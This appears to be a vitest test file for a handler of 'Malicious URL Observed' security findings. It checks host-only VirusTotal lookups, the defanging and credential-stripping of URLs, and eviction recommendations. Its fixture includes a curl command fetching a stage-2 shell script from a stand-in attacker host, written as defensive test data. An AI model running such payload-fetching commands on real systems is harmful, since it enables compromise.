import { expect, test } from 'vitest';
import { findingOn, proposalFor, recommended, words } from './fixtures/world.ts';
import { maliciousUrl } from './malicious-url.ts';

const uri = 'https://ana:hunter2@Drop.Evil.example:8443/stage2.sh?token=s3cret#frag';
const fields = {
  category: 'Malicious URL Observed',
  indicator: { uris: [uri] },
  processes: [{ binary: { path: '/usr/bin/curl' }, args: ['-O', uri] }],
};

test('VirusTotal is asked about the host alone', () => {
  expect(maliciousUrl.lookUp(findingOn('service', fields))).toEqual([
    { kind: 'domain', value: 'drop.evil.example', from: 'the host of a URL in SCC’s indicator' },
  ]);
});

test('the URL is shown so that nobody can follow it, without user, password, query and fragment', () => {
  const said = words(proposalFor(fields));
  expect(said).toContain('hxxps://Drop[.]Evil[.]example:8443/stage2.sh (user, password and query left out)');
  expect(said).not.toMatch(/hunter2|s3cret|frag|https:\/\//);
  expect(said).toContain('Program that was given it: /usr/bin/curl');
});

test('what came from there ends with its instances', () => {
  expect(recommended(proposalFor(fields))).toBe('evict');
  expect(recommended(proposalFor(fields, { kind: 'workerPool' }))).toBe('pin-worker-pool');
});
